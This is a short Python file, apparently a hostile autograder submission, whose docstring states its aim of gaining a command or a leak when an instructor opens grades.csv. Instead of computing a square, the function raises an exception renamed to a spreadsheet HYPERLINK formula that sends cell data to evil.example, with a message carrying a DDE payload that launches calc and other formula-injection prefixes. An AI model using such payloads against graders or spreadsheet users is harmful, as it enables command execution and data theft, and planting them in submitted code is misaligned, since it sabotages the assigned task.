"""A message that a spreadsheet takes for a formula.

Gains: a command, or a leak, when the instructor opens grades.csv
Hides in: squares.py
Aims at: square
Earns: nothing
Ends: error
"""


class Formula(Exception):
    pass


Formula.__name__ = Formula.__qualname__ = '=HYPERLINK("http://evil.example?"&A1,"click")'


def square(x):
    raise Formula('=cmd|" /C calc"!A0\n@SUM(1+1)\t-2+3\r+1;"passed"')
